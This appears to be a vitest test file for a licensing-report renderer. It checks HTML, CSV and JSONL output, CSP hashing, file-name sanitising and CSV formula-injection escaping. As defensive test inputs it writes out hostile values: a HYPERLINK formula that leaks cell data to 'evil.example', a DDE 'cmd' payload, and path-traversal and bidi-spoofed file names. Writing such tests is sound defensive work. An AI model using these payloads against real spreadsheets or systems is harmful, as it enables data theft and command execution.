import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/analysis/index.js';
import { loadTemplates } from '../../src/node/templates.js';
import { csvField, renderFindingsJsonl, renderFleetCsv, renderReports, reportFileName, sanitizeFileComponent } from '../../src/report/index.js';
import { scenarioReport } from './helpers.js';
import { attr, elements, parseHtml, text } from './html-tree.js';

const templates = loadTemplates();

/** RFC 4180 reader for the assertions: quoted fields, doubled quotes, CRLF records. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && csv[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  expect(field).toBe('');
  expect(row).toEqual([]);
  return rows;
}

function withHostnames(report: Report, names: string[]): Report {
  const copy = JSON.parse(JSON.stringify(report)) as { hosts: { hostname: string }[] };
  names.forEach((n, i) => (copy.hosts[i].hostname = n));
  return copy as unknown as Report;
}

describe('renderReports', () => {
  const report = scenarioReport(['grace-period-expired', 'hostile-names', 'corrupt-client-store']);
  const files = renderReports(report, ['html', 'md', 'json'], templates);
  const byName = new Map(files.map((f) => [f.fileName, f.content]));

  it('produces per-host files, report.json and the fleet files', () => {
    expect(files.map((f) => f.fileName)).toEqual([
      '001-RDSH02.html',
      '001-RDSH02.md',
      '002-script_alert_1_script_x.html',
      '002-script_alert_1_script_x.md',
      '003-LAPTOP-3.html',
      '003-LAPTOP-3.md',
      'report.json',
      'index.html',
      'summary.md',
      'summary.csv',
      'findings.jsonl',
    ]);
  });

  it('a single host gets no fleet files, only findings.jsonl when JSON is asked', () => {
    const one = renderReports(scenarioReport(['healthy-per-user']), ['html', 'md', 'json'], templates);
    expect(one.map((f) => f.fileName)).toEqual(['001-RDSH01.html', '001-RDSH01.md', 'report.json', 'findings.jsonl']);
    expect(renderReports(scenarioReport(['healthy-per-user']), ['html', 'md'], templates).map((f) => f.fileName)).toEqual(['001-RDSH01.html', '001-RDSH01.md']);
    expect(one[0].content).not.toContain('All hosts');
  });

  it('index.html links each host, by its real name, to its own HTML report, worst verdict first; host reports link back', () => {
    const doc = parseHtml(byName.get('index.html')!);
    const rows = elements(doc, (n) => n.tagName === 'tbody')[0].childNodes!.filter((n) => n.tagName === 'tr');
    expect(rows).toHaveLength(3);
    const cells = (tr: (typeof rows)[number]) => elements(tr, (n) => n.tagName === 'td').map(text);
    // Broken RDSH02 first; then the two that need attention by host name: `<script>…` before LAPTOP-3.
    expect(rows.map((tr) => Number(cells(tr)[0]))).toEqual([1, 2, 3]);
    expect(rows.map((tr) => attr(tr, 'data-verdict'))).toEqual(['broken', 'needs-attention', 'needs-attention']);
    for (const tr of rows) {
      const i = Number(cells(tr)[0]) - 1;
      const a = elements(tr, (n) => n.tagName === 'a')[0];
      const href = decodeURIComponent(attr(a, 'href')!);
      expect(byName.has(href), href).toBe(true);
      expect(href).toBe(`${reportFileName(report.hosts[i].hostname, i)}.html`);
      expect(text(a)).toBe(report.hosts[i].hostname);
      expect(byName.get(href)).toContain(`<title>RDS licensing report: ${i === 0 ? 'RDSH02' : ''}`);
    }
    expect(cells(rows[0])[2]).toBe('Broken');
    expect(cells(rows[0])[4]).toBe('0 (ended)');
    expect(cells(rows[2])[4]).toBe('n/a');
    const back = elements(parseHtml(byName.get('001-RDSH02.html')!), (n) => n.tagName === 'a' && attr(n, 'href') === 'index.html');
    expect(back).toHaveLength(1);
    // Rows only: the full analysis is in report.json and findings.jsonl, which the page links.
    expect(elements(doc, (n) => attr(n, 'id') === 'report-data')).toEqual([]);
    const links = elements(doc, (n) => n.tagName === 'a').map((n) => attr(n, 'href'));
    for (const f of ['summary.csv', 'findings.jsonl']) expect(links, f).toContain(f);
  });

  it('index.html allows exactly its own inline script, by hash, and nothing else', () => {
    const html = byName.get('index.html')!;
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1] ?? '';
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)];
    expect(scripts).toHaveLength(1);
    const hash = `sha256-${createHash('sha256').update(scripts[0][1], 'utf8').digest('base64')}`;
    expect(csp.split('; ')).toEqual(["default-src 'none'", `script-src '${hash}'`, "style-src 'unsafe-inline'", "base-uri 'none'", "form-action 'none'"]);
    expect(html).not.toMatch(/<script[^>]+src=/);
    expect(scripts[0][1]).toContain("getElementById('host-table')");
  });

  it('summary.csv: one RFC 4180 record per host, file names, newlines kept inside quotes', () => {
    const rows = parseCsv(byName.get('summary.csv')!);
    expect(rows).toHaveLength(4);
    expect(rows[0].slice(0, 4)).toEqual(['host_index', 'hostname', 'label', 'verdict']);
    for (const r of rows) expect(r).toHaveLength(rows[0].length);
    expect(rows[2][1]).toBe(report.hosts[1].hostname);
    expect(rows.slice(1).map((r) => r[r.length - 1])).toEqual(files.filter((f) => /^\d{3}-.*\.html$/.test(f.fileName)).map((f) => f.fileName));
    expect(rows[1][3]).toBe('broken');
  });

  it('findings.jsonl: one parseable line per finding with the host fields', () => {
    const lines = byName.get('findings.jsonl')!.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(report.hosts.reduce((n, h) => n + h.findings.length, 0));
    const parsed = lines.map((l) => JSON.parse(l));
    expect(parsed.filter((p) => p.hostIndex === 2).every((p) => p.hostname === report.hosts[1].hostname && p.reportFile === '002-script_alert_1_script_x.html')).toBe(true);
    expect(parsed.map((p) => p.ruleId)).toEqual(report.hosts.flatMap((h) => h.findings.map((f) => f.ruleId)));
    expect(Object.keys(parsed[0]).slice(0, 4)).toEqual(['tool', 'toolVersion', 'hostIndex', 'hostname']);
  });

  it('JSONL lines never split on NEL, U+2028 or U+2029', () => {
    const evil = withHostnames(report, ['a\u2028b\u2029c\u0085d\ne']);
    const lines = renderFindingsJsonl(evil).split(/\r\n|[\n\r\u2028\u2029\u0085]/);
    expect(lines.filter((l) => l !== '').every((l) => JSON.parse(l).hostname === 'a\u2028b\u2029c\u0085d\ne' || JSON.parse(l).hostIndex !== 1)).toBe(true);
  });
});

describe('CSV formula injection', () => {
  it('cells starting with = + - @ (or tab, CR) get a leading apostrophe', () => {
    const report = withHostnames(scenarioReport(['healthy-per-user', 'grace-period-expired', 'hostile-names', 'workgroup-per-user', 'rdp-wrapper-workstation']), [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      '+cmd|\' /C calc\'!A0',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
    ]);
    const rows = parseCsv(renderFleetCsv(report));
    expect(rows.slice(1).map((r) => r[1])).toEqual(["'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)", "'\t=1"]);
    // Numbers the tool itself writes are left alone.
    expect(csvField(-1)).toBe('-1');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });
});

describe('reportFileName', () => {
  it('strips separators, dot runs, control, reserved and bidi characters', () => {
    for (const hostile of ['../../etc/passwd', '..\\..\\Windows\\System32', 'a/b\\c:d*e?f"g<h>i|j', 'x\u0000y\u001fz', 'evil\u202Egnp.exe', ' .. ', '....']) {
      const name = reportFileName(hostile, 0);
      expect(name, hostile).toMatch(/^001-[\p{L}\p{N}._-]+$/u);
      expect(name).not.toContain('..');
      expect(name).not.toMatch(/[/\\:*?"<>|\u0000-\u001f\u202e]/);
    }
    expect(reportFileName('../../etc/passwd', 0)).toBe('001-etc_passwd');
    expect(reportFileName('', 4)).toBe('005-host');
  });

  it('avoids Windows device names, keeps letters of any script, caps the length, and stays unique by index', () => {
    expect(sanitizeFileComponent('CON')).toBe('_CON');
    expect(sanitizeFileComponent('con.html')).toBe('_con.html');
    expect(sanitizeFileComponent('LPT1')).toBe('_LPT1');
    expect(sanitizeFileComponent('CONSOLE')).toBe('CONSOLE');
    expect(sanitizeFileComponent('сервер-01')).toBe('сервер-01');
    expect(Array.from(sanitizeFileComponent('x'.repeat(300) + '😀'.repeat(10)))).toHaveLength(64);
    expect(sanitizeFileComponent('😀'.repeat(100))).toBe('host');
    expect(reportFileName('RDSH01', 0)).not.toBe(reportFileName('RDSH01', 1));
    expect(reportFileName('rdsh01.contoso.local', 11)).toBe('012-rdsh01.contoso.local');
  });
});
